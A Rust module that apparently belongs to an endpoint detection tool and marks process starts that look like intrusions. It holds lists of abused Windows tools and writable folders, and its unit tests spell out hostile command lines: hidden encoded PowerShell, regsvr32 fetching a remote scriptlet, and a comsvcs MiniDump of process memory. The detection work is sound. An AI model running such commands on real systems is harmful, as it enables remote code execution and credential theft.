//! What makes the start of a program look like an intruder's, whatever its name: who starts it, from where, with what.

use super::shape;

/// Programs that show documents, mail and pages: what they start has come with one of these.
const READERS: [&str; 15] = [
    "winword",
    "excel",
    "powerpnt",
    "outlook",
    "onenote",
    "msaccess",
    "mspub",
    "visio",
    "eqnedt#",
    "wordpad",
    "hh",
    "acrord#",
    "acrobat",
    "foxitreader",
    "soffice.bin",
];

/// Programs of Windows that people hardly ever call and intruders borrow to fetch, run or hide (LOLBAS).
const BORROWED: [&str; 22] = [
    "mshta",
    "regsvr#",
    "certutil",
    "bitsadmin",
    "installutil",
    "regasm",
    "regsvcs",
    "msbuild",
    "cmstp",
    "odbcconf",
    "mavinject",
    "msxsl",
    "ieexec",
    "presentationhost",
    "forfiles",
    "pcalua",
    "scriptrunner",
    "syncappvpublishingserver",
    "esentutl",
    "ntdsutil",
    "vssadmin",
    "wbadmin",
];

/// Folders that everybody may write to and nothing is installed in, as [`shape::path`] writes them.
const OPEN_FOLDERS: [&str; 11] = [
    r"\users\public\",
    r"\users\*\downloads\",
    r"\users\*\music\",
    r"\users\*\videos\",
    r"\perflogs\",
    r"\windows\temp\",
    r"\windows\tasks\",
    r"\$recycle.bin\",
    r"\dev\shm\",
    r"\tmp\",
    r"\var\tmp\",
];

/// How deep below a folder a program is that lies in it by itself or in one folder of its own.
const SHALLOW: usize = 2;

/// A start of a program, each path as [`shape::path`] writes it.
#[derive(Debug, Clone, Copy)]
pub(super) struct Start<'a> {
    pub(super) path: &'a str,
    pub(super) parent: &'a str,
    /// The command line as it is.
    pub(super) line: &'a str,
}

/// The marks of a start, each in a few words.
pub(super) fn marks(start: &Start<'_>) -> Vec<String> {
    let file = shape::file(start.path);
    let line = shape::clipped(start.line).to_lowercase();
    let is_interpreter = shape::is_interpreter(file);
    let borrowed = is_one_of(file, &BORROWED);
    let mut marks = Vec::new();
    if (is_interpreter || borrowed) && is_one_of(shape::file(start.parent), &READERS) {
        marks.push("an interpreter that a document or a mail started".to_owned());
    }
    if borrowed {
        marks.push(format!("{file}, a tool of the system that intruders borrow"));
    }
    if (is_interpreter || borrowed) && line.contains("://") {
        marks.push("an interpreter that is given an address".to_owned());
    }
    if is_interpreter && is_encoded(&line) {
        marks.push("an interpreter that is given encoded text".to_owned());
    }
    if dumps_memory(&line) {
        marks.push("the memory of another program written to a file".to_owned());
    }
    if line.contains("process call create") || line.contains("win32_process") {
        marks.push("a program started through WMI".to_owned());
    }
    if is_in_open_folder(start.path) {
        marks.push("a program in a folder that anybody may write to".to_owned());
    }
    if is_interpreter && !borrowed && loads_from_user(&line) {
        marks.push("an interpreter that runs a file from a user's folder".to_owned());
    }
    marks
}

fn is_one_of(file: &str, names: &[&str]) -> bool {
    let stem = file.strip_suffix(".exe").unwrap_or(file);
    names.contains(&stem)
}

/// Base64 as PowerShell and others take it: one long word of its letters, or an option that says so.
fn is_encoded(line: &str) -> bool {
    const LONG: usize = 60;
    let is_letter = |byte: u8| byte.is_ascii_alphanumeric() || [b'+', b'/', b'='].contains(&byte);
    let word = |word: &str| {
        let word = word.trim_matches(['"', '\'']);
        word.len() >= LONG && word.bytes().all(is_letter) && !word.starts_with('/')
    };
    line.contains("frombase64string") || line.split([' ', '(', ')', ',']).any(word)
}

fn dumps_memory(line: &str) -> bool {
    line.contains("minidump") || (line.contains("procdump") && line.contains("lsass")) || line.contains("comsvcs.dll,#")
}

fn is_in_open_folder(path: &str) -> bool {
    let program_data = path.split_once(r"\programdata\").is_some_and(|(_, rest)| rest.split('\\').count() <= SHALLOW);
    program_data || OPEN_FOLDERS.iter().any(|folder| path.contains(folder))
}

/// Scripts and libraries that somebody without rights can have put there.
fn loads_from_user(line: &str) -> bool {
    const CARRIERS: [&str; 9] = [".js", ".jse", ".vbs", ".vbe", ".wsf", ".hta", ".dll", ".sct", ".ocx"];
    line.split([' ', ',', '"', '\''])
        .any(|word| word.contains(r"\users\") && CARRIERS.iter().any(|ending| word.ends_with(ending)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(path: &str, parent: &str, line: &str) -> String {
        let (path, parent) = (shape::path(path), shape::path(parent));
        marks(&Start { path: &path, parent: &parent, line }).join("; ")
    }

    #[test]
    fn intruders_have_marks() {
        let shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        let encoded = format!("powershell -nop -w hidden -enc {}", "QUJD".repeat(40));
        let from_word = of(shell, r"C:\Program Files\Office16\WINWORD.EXE", &encoded);
        assert_eq!(
            from_word,
            "an interpreter that a document or a mail started; an interpreter that is given encoded text"
        );
        let fetched =
            of(r"C:\Windows\System32\regsvr32.exe", r"C:\Windows\System32\cmd.exe", "regsvr32 /i:http://x/a.sct");
        assert!(fetched.contains("borrow") && fetched.contains("an address"), "{fetched}");
        let dump = of(
            r"C:\Windows\System32\rundll32.exe",
            "",
            r"rundll32 C:\windows\System32\comsvcs.dll, MiniDump 624 a full",
        );
        assert_eq!(dump, "the memory of another program written to a file");
        assert!(of(r"C:\ProgramData\k3\svchost.exe", "", "").contains("anybody may write"));
        assert!(
            of(r"C:\Windows\System32\wscript.exe", "", r#"wscript "C:\Users\a\AppData\Local\Temp\x.js""#)
                .contains("user's folder")
        );
    }

    #[test]
    fn ordinary_starts_have_none() {
        for (path, parent, line) in [
            (r"C:\Program Files\Office16\WINWORD.EXE", r"C:\Windows\explorer.exe", r"winword C:\Users\a\x.docx"),
            (r"C:\ProgramData\Vendor\Agent\3.1\agent.exe", r"C:\Windows\System32\services.exe", "agent --run"),
            (r"C:\Users\a\AppData\Local\Temp\x1y2z3\setup.exe", r"C:\Windows\explorer.exe", "/quiet"),
            (r"C:\Windows\System32\rundll32.exe", r"C:\Windows\explorer.exe", "rundll32 shell32.dll,Control_RunDLL"),
            ("/usr/bin/bash", "/usr/sbin/cron", "bash -c /etc/cron.daily/logrotate"),
        ] {
            assert_eq!(of(path, parent, line), "");
        }
    }
}
